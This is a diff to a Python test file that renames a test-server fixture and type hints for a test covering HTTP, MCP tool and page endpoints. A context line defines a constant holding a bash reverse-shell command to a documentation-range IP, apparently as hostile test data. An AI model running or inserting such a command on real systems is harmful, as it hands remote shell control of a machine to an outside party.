@@ -14,7 +14,7 @@ from tests.support.command import Ask
 from tests.support.roots.hand_written import BREAD
 from tests.support.roots.skill_root import Export, SkillRoot
 from tests.support.roots.storied import KEY, PIPED, RULE
-from tests.support.serving import Serving, ask_http, serving
+from tests.support.serving import Here, ask_http, serving_here
 
 TIDES = "local/market/tides"
 REVERSED = f"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1  # {KEY}"
@@ -63,8 +63,8 @@ def root(tmp_path_factory: pytest.TempPathFactory, minilm_export: Export) -> Ski
 
 
 @pytest.fixture(scope="module")
-def server(root: SkillRoot) -> Iterator[Serving]:
-    with serving(root.root.uri) as started:
+def server(root: SkillRoot) -> Iterator[Here]:
+    with serving_here(root.root.uri) as started:
         yield started
 
 
@@ -143,7 +143,7 @@ TOOLS = [
 ]
 
 
-def test_http_and_the_tools_of_mcp_and_the_pages(server: Serving) -> None:
+def test_http_and_the_tools_of_mcp_and_the_pages(server: Here) -> None:
     asked = [(target, ask_http(server, target), speaks) for target, speaks in TARGETS.items()]
     asked += [(tool, ask_http(server, f"/api/tools/{tool}", given), speaks) for tool, given, speaks in TOOLS]
     for way, found, speaks in asked:
